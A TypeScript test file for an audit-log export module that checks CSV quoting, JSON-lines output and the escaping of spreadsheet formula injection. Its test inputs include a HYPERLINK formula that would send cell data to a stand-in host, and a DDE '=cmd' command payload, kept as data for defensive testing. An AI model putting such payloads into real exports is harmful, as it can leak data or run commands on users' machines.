import { test } from "node:test";
import assert from "node:assert/strict";
import { auditCsv, auditJsonLines, csvCell } from "./audit-export.ts";
import type { AuditEvent } from "./audit.ts";

const event = (over: Partial<AuditEvent>): AuditEvent => ({
  id: 1,
  at: "2026-12-05T09:00:00.000Z",
  event: "file_created",
  actor: "ann",
  clientAddress: "127.0.0.1",
  workspace: null,
  details: {},
  ...over,
});

test("a CSV cell that a spreadsheet would read as a formula starts with an apostrophe", () => {
  for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
    const cell = csvCell(`${start}HYPERLINK("http://x.example/?"&A1)`);
    assert.match(cell, /^"?'/, JSON.stringify(cell));
  }
  assert.equal(csvCell("plain"), "plain");
  assert.equal(csvCell("a,b"), '"a,b"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell("two\nlines"), '"two\nlines"');
});

test("the CSV has a header and one row per event, details as one JSON cell", () => {
  const csv = auditCsv([
    event({ id: 2, details: { path: "=cmd|' /C calc'!A0", user: "bo" } }),
    event({ id: 1, actor: null, workspace: "AAAAAAAAAAAAAAAA" }),
  ]);
  const lines = csv.split("\r\n");
  assert.equal(lines[0], "id,at,event,actor,clientAddress,workspace,details");
  assert.equal(lines.length, 4);
  assert.equal(
    lines[1],
    '2,2026-12-05T09:00:00.000Z,file_created,ann,127.0.0.1,,"{""path"":""=cmd|\' /C calc\'!A0"",""user"":""bo""}"',
  );
  assert.equal(lines[2], "1,2026-12-05T09:00:00.000Z,file_created,,127.0.0.1,AAAAAAAAAAAAAAAA,{}");
  assert.equal(lines[3], "");
});

test("JSON lines: one event a line, whatever its details hold", () => {
  const text = auditJsonLines([event({ details: { note: "line one\nline two" } }), event({ id: 2 })]);
  const lines = text.split("\n");
  assert.equal(lines.length, 3);
  assert.deepEqual(JSON.parse(lines[0]!).details, { note: "line one\nline two" });
  assert.equal(JSON.parse(lines[1]!).id, 2);
});
